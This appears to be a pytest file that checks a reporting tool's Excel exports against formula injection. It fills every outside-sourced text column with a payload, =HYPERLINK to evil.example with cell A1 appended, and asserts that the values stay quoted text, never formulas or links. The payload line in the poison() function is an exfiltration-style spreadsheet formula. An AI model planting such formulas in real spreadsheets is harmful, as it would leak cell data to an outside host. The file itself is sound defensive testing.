"""No text of any source becomes a formula in any file: every text column of every frame is poisoned at once."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path
from typing import TYPE_CHECKING
from zipfile import ZipFile

import pandas as pd
import pytest
from openpyxl import load_workbook

from reports.books import MAKERS
from reports.drafts import Desk, Order
from reports.frames import Tables
from tests.unit.office_school import AS_OF, LINKS, TIMEZONE, school

if TYPE_CHECKING:
    from collections.abc import Iterator

    from openpyxl.cell.cell import Cell

OURS = {
    *(
        "programme",
        "clause",
        "measure",
        "strength",
        "unit",
        "subject_kind",
        "state",
        "reason",
        "quarter",
        "by",
        "period",
    ),
    *(
        "kind",
        "step",
        "theme",
        "audience",
        "role",
        "mode",
        "setting",
        "method",
        "decision",
        "group",
        "severity",
        "check",
    ),
    *("rank", "track", "employment_status", "appointment_type", "unit_kind", "proration", "collected", "scope"),
    *("obligation_id", "finding_id", "change_id", "reminder_id", "proposal_id", "exemption_id", "event_id", "pair_id"),
    *("snapshot", "rule_version", "project", "subject_id", "evidence", "source", "outcome"),
}
"""Columns whose values are the product's own codes and keys; all other text is somebody's."""

PERSON = {"person_id", "counterpart_id", "mentor_id", "mentee_id", "previous_mentor_id", "next_mentor_id"}
STARTS = ("=", "+", "-", "@")


def poison(text: object) -> object:
    """Return text as somebody who means harm would type it; missing stays missing."""
    return f'=HYPERLINK("https://evil.example/?"&A1,"{text}")' if isinstance(text, str) and text else text


def poisoned(tables: Tables) -> Tables:
    """Return the frames with every text from outside poisoned, each value alike wherever it stands."""
    return Tables(**{name: _poisoned(getattr(tables, name)) for name in Tables.__dataclass_fields__})


def _poisoned(frame: pd.DataFrame) -> pd.DataFrame:
    texts = [
        name
        for name in frame.columns
        if name not in OURS and name not in PERSON and isinstance(frame[name].dtype, pd.StringDtype)
    ]
    return frame.assign(**{name: frame[name].map(poison, na_action="ignore").astype("str") for name in texts})


@pytest.fixture(scope="module")
def books() -> dict[str, bytes]:
    """Return every workbook a night makes of a poisoned school, by name."""
    order = Order(
        published=Path(),
        quarters=("2026-04-01", "2026-07-01"),
        as_of=AS_OF,
        timezone=TIMEZONE,
        record_links=LINKS,
        institution=str(poison("Example School")),
        contact=str(poison("Office")),
    )
    desk = Desk(poisoned(school(people=40)), order)
    drafts = [draft for maker in MAKERS for draft in maker(desk)]
    return {draft.name: draft.content()[0] for draft in drafts if draft.name.endswith(".xlsx")}


def cells_of(content: bytes) -> Iterator[Cell]:
    for page in load_workbook(BytesIO(content)).worksheets:
        for row in page.iter_rows():
            yield from row


def test_the_poison_reaches_the_books(books: dict[str, bytes]):
    assert len({name.split("-")[-4] for name in books}) >= 3
    for name, content in books.items():
        told = [cell for cell in cells_of(content) if isinstance(cell.value, str) and "evil.example" in cell.value]
        assert told, name


def test_nothing_anybody_typed_is_a_formula_or_becomes_one_on_edit(books: dict[str, bytes]):
    for name, content in books.items():
        for cell in cells_of(content):
            if isinstance(cell.value, str) and "evil.example" in cell.value:
                assert cell.data_type == "s", f"{name} {cell.parent.title}!{cell.coordinate}"
                if cell.value.startswith(STARTS):
                    assert cell.quotePrefix, f"{name} {cell.parent.title}!{cell.coordinate}"


def test_no_formula_link_name_or_validation_holds_what_somebody_typed(books: dict[str, bytes]):
    for name, content in books.items():
        with ZipFile(BytesIO(content)) as archive:
            for part in archive.namelist():
                xml = archive.read(part).decode() if part.endswith((".xml", ".rels")) else ""
                for mark in ("<f>", "<f ", "<definedName", "<formula1>", "Target="):
                    for piece in xml.split(mark)[1:]:
                        assert "evil.example" not in piece.partition("<")[0].partition(" ")[0], f"{name} {part}"


def test_what_somebody_typed_stays_text_after_an_edit_and_a_save(books: dict[str, bytes]):
    for name, content in books.items():
        book = load_workbook(BytesIO(content))
        book.worksheets[0]["Z99"] = "edited"
        again = BytesIO()
        book.save(again)
        for cell in cells_of(again.getvalue()):
            if isinstance(cell.value, str) and "evil.example" in cell.value:
                assert cell.data_type == "s", name
                assert cell.quotePrefix or not cell.value.startswith(STARTS), (
                    f"{name} {cell.parent.title}!{cell.coordinate}"
                )
